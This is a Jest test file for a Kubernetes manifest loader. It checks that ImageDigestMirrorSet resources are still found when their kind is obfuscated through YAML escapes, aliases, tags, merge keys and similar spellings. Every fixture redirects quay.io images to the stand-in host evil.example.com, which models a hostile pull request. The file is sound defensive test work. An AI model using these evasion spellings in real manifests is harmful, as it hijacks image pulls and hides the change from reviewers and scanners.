import { describe, expect, it } from '@jest/globals';
import { DEFAULT_LIMITS } from '../../src/load/limits.js';
import { loadFiles } from '../../src/load/load.js';
import { mayHideStructure } from '../../src/load/prefilter.js';
import { parseFastYaml } from '../../src/load/yaml-fast.js';
import { memFiles } from '../support/tmp-repo.js';

// A hostile pull request can spell a mirror set so that the literal kind never appears in the file. Each
// spelling here decodes to an ImageDigestMirrorSet that kubectl, Argo CD and Flux would apply; the loader must
// see every one of them (each was skipped silently before).
const SPEC = 'spec:\n  imageDigestMirrors:\n  - source: quay.io/app\n    mirrors: [evil.example.com/app]\n';
const HIDDEN: Record<string, string> = {
  'escaped kind': `apiVersion: config.openshift.io/v1\nkind: "ImageDigestMirrorS\\x65t"\nmetadata: {name: a}\n${SPEC}`,
  'escaped key (JSON)':
    '{"apiVersion": "config.openshift.io/v1", "\\u006bind": "ImageDigestMirrorSet", "metadata": {"name": "a"}, "spec": {"imageDigestMirrors": [{"source": "quay.io/app", "mirrors": ["evil.example.com/app"]}]}}\n',
  'tagged kind': `apiVersion: config.openshift.io/v1\nkind: !!str ImageDigestMirrorSet\nmetadata: {name: a}\n${SPEC}`,
  'aliased kind': `apiVersion: config.openshift.io/v1\nmetadata: {name: a, labels: {k: &k ImageDigestMirrorSet}}\nkind: *k\n${SPEC}`,
  'block scalar kind': `apiVersion: config.openshift.io/v1\nkind: |-\n  ImageDigestMirrorSet\nmetadata: {name: a}\n${SPEC}`,
  'complex key': `apiVersion: config.openshift.io/v1\n? kind\n: ImageDigestMirrorSet\nmetadata: {name: a}\n${SPEC}`,
  'merge key': `<<: {kind: ImageDigestMirrorSet}\napiVersion: config.openshift.io/v1\nmetadata: {name: a}\n${SPEC}`,
  'escaped line break': `apiVersion: config.openshift.io/v1\nkind: "ImageDigest\\\n  MirrorSet"\nmetadata: {name: a}\n${SPEC}`
};

const opts = { include: [], exclude: [], limits: DEFAULT_LIMITS };

describe('kinds spelled so that a literal scan cannot see them', () => {
  for (const [name, text] of Object.entries(HIDDEN)) {
    it(`finds the mirror set behind a ${name}`, () => {
      const r = loadFiles(memFiles({ 'm.yaml': text }), opts);
      const kinds = r.docs.map((d) => d.kind);
      expect(kinds).toContain('ImageDigestMirrorSet');
    });
  }

  // The fast YAML reader takes plain block-style files, escaped double-quoted scalars and `|-` block
  // scalars included: a kind hidden that way must come out of it decoded, not be skipped. The other
  // spellings leave the fast path for yaml.
  it('decodes the kinds hidden in spellings the fast YAML path takes, and leaves the rest to yaml', () => {
    const taken = Object.entries(HIDDEN).flatMap(([name, text]) => {
      const docs = parseFastYaml(text, DEFAULT_LIMITS.maxDepth, DEFAULT_LIMITS.maxDocumentsPerFile);
      return docs ? [[name, docs.map((d) => d.value['kind'])]] : [];
    });
    expect(taken).toEqual([
      ['escaped kind', ['ImageDigestMirrorSet']],
      ['block scalar kind', ['ImageDigestMirrorSet']]
    ]);
  });

  it('does not report templates that are not YAML, and keeps no unrelated documents', () => {
    const r = loadFiles(
      memFiles({
        'templates/deploy.yaml':
          'metadata:\n  name: {{ include "x" . }}\n  labels: {{- toYaml .Values.labels | nindent 4 }}\n  a: "\\d+"\n',
        'config.json': '{"kind": "ConfigMap", "data": {"re": "^a\\\\.b$"}}\n'
      }),
      opts
    );
    expect(r.problems).toEqual([]);
    expect(r.docs).toEqual([]);
  });

  it('leaves plain manifests to the literal scan', () => {
    expect(mayHideStructure('apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec: {ports: [{port: 80}]}\n')).toBe(
      false
    );
    expect(mayHideStructure('env:\n- name: A\n  value: "x*y!z&w"\n')).toBe(false);
  });

  it('scans pathological input in linear time', () => {
    const inputs = [
      '"' + 'a'.repeat(200_000),
      ' -'.repeat(100_000) + 'x',
      '"'.repeat(200_000),
      'kind' + ' '.repeat(200_000)
    ];
    for (const text of inputs) {
      const t0 = process.hrtime.bigint();
      mayHideStructure(text);
      expect(Number(process.hrtime.bigint() - t0) / 1e6).toBeLessThan(500);
    }
  });
});
